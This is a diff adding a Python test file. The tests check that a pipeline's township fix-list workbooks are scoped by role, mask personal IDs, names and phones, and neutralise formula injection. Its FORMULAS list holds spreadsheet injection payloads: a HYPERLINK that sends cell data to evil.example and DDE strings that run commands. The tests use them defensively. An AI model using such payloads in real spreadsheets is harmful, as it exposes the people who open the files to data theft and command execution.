@@ -1,0 +1,125 @@
+"""Fix-lists leave the server scoped and masked (issue #12, items 1 and 6): a township gets
+its own rows of a county workbook and nothing of another township's, personal fields as its
+role sees them; text that reads as a formula goes back as text."""
+
+from __future__ import annotations
+
+import io
+import re
+
+import openpyxl
+import pytest
+
+from pipeline.access.scope import Scope
+from pipeline.ingest.batch import ingest_paths
+from pipeline.ingest.fixlist import build_fixlist
+from pipeline.ingest.fixlist_scope import build_scoped_fixlist
+from tests.conftest import HEADER, member, valid_id
+
+QK, LX = "钱库镇", "灵溪镇"
+CLEAR_ID = re.compile(r"\d{17}[\dXx]")
+
+
+def county_workbook(write_xlsx, folder):
+    # write_xlsx is conftest's fixture function; folder is where the raw file goes
+    """Three 钱库镇 members (one with a bad ID), two of 灵溪镇, one workbook."""
+    rows = [
+        member(
+            1,
+            "钱一鸣",
+            id_number=valid_id("33032719800101001"),
+            township=QK,
+            phone="13811110001",
+            status="失联",
+        ),
+        member(2, "钱二妹", id_number="330327198001011239", township=QK, phone="13811110002"),
+        member(
+            3, "钱三江", id_number=valid_id("33032719800101003"), township=QK, phone="13811110003"
+        ),
+        member(
+            4, "林四海", id_number=valid_id("33032719800101004"), township=LX, phone="13922220004"
+        ),
+        member(
+            5, "林五岳", id_number=valid_id("33032719800101005"), township=LX, phone="13922220005"
+        ),
+    ]
+    return write_xlsx("苍南县_2022-04_全县汇总.xlsx", {"名册": [HEADER, *rows]}, folder=folder)
+
+
+@pytest.fixture
+def county(write_xlsx, tmp_path):
+    path = county_workbook(write_xlsx, tmp_path / "raw")
+    db = tmp_path / "county.duckdb"
+    [result] = ingest_paths([path], db=db).files
+    assert result.rows_rejected == 1 and result.rows_loaded == 4, result
+    return db, path, result.file_hash
+
+
+def cells(data: bytes) -> list[str]:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [
+        str(c.value)
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.value is not None
+    ]
+
+
+def test_a_township_fixlist_holds_only_its_own_rows_with_ids_masked(county):
+    db, path, digest = county
+    data, rows = build_scoped_fixlist(db, digest, path, Scope.for_role("township", QK))
+    text = "\n".join(cells(data))
+    assert rows == 3  # what the audit records: the rows in the file
+    assert "钱一鸣" in text and "钱二妹" in text and "13811110001" in text  # its own, in clear
+    assert (
+        "林四海" not in text and "林五岳" not in text and LX not in text and "1392222" not in text
+    )
+    assert not CLEAR_ID.search(text), "ID numbers leave masked"
+    assert "问题说明" in text
+
+
+def test_a_role_without_personal_data_gets_names_and_phones_masked(county):
+    db, path, digest = county
+    data, rows = build_scoped_fixlist(db, digest, path, Scope.for_role("analyst"))
+    text = "\n".join(cells(data))
+    assert rows == 5
+    assert "钱一鸣" not in text and "钱*鸣" in text and "林*海" in text
+    assert "13811110001" not in text and "138****0001" in text
+    assert not CLEAR_ID.search(text)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&B2,"点击")',
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+]
+
+
+@pytest.mark.parametrize("scoped", [False, True])
+def test_fixlists_rebuilt_from_csv_carry_no_live_formula(tmp_path, scoped):
+    raw = tmp_path / "raw"
+    raw.mkdir()
+    body = [",".join(HEADER)]
+    for i, formula in enumerate(FORMULAS, start=1):
+        row = member(i, f"王{i}", township=QK, id_number=valid_id(f"3303271980010100{i}"))
+        row[8] = formula.replace('"', '""')  # 从事职业
+        row[3] = "bad-id" if i == 1 else row[3]  # one reject, so a fix-list is made
+        body.append(",".join(f'"{v}"' if v is not None else "" for v in row))
+    path = raw / "钱库镇_2022-04_导出.csv"
+    path.write_text("\n".join(body), encoding="utf-8")
+    db = tmp_path / "f.duckdb"
+    [result] = ingest_paths([path], db=db).files
+    assert result.rows_rejected >= 1
+    if scoped:
+        data, _rows = build_scoped_fixlist(db, result.file_hash, path, Scope.for_role("admin"))
+    else:
+        data = build_fixlist(db, result.file_hash, path)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    kinds = {
+        (c.coordinate, c.data_type) for ws in book.worksheets for r in ws.iter_rows() for c in r
+    }
+    assert not [k for k in kinds if k[1] == "f"], kinds
+    text = cells(data)
+    for formula in FORMULAS:
+        assert formula in text  # kept as the text the township typed
